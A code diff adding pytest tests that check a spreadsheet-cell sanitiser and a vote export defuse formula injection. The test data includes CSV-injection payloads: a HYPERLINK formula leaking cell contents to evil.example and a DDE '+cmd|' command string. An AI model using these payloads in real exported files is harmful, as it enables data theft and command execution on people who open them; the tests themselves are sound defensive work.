@@ -241,3 +241,42 @@ def test_read_table_rejects_duplicate_header(tmp_path):
 def test_read_text_on_a_missing_file(tmp_path: Path):
     with pytest.raises(ConfigError, match="file not found"):
         cfg.read_text(tmp_path / "none.yaml", "plan")
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        ),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("-3.5", "-3.5"),  # a plain number cannot be a formula
+        ("nice mix", "nice mix"),
+        (5, 5),
+    ],
+)
+def test_formula_cells_are_written_as_text(value, shown):
+    from workbench.core.cells import safe_cell
+
+    assert safe_cell(value) == shown
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+def test_vote_export_neutralises_a_rater_comment(tmp_path, monkeypatch, suffix):
+    import pandas as pd
+
+    from workbench.campaigns import db
+    from workbench.campaigns import export as export_module
+
+    row = {name: None for name in db.VOTE_COLUMNS}
+    row.update(comment='=HYPERLINK("http://evil.example","x")', is_gold=0, fit_left=None, fit_right=None)
+    monkeypatch.setattr(db, "get_campaign", lambda store, name: None)
+    monkeypatch.setattr(db, "vote_rows", lambda store, name: [row])
+    out = tmp_path / f"votes{suffix}"
+    assert export_module.export_votes(None, "c", out) == 1  # type: ignore[arg-type]
+    frame = pd.read_csv(out) if suffix == ".csv" else pd.read_parquet(out)
+    assert frame["comment"][0] == '\'=HYPERLINK("http://evil.example","x")'
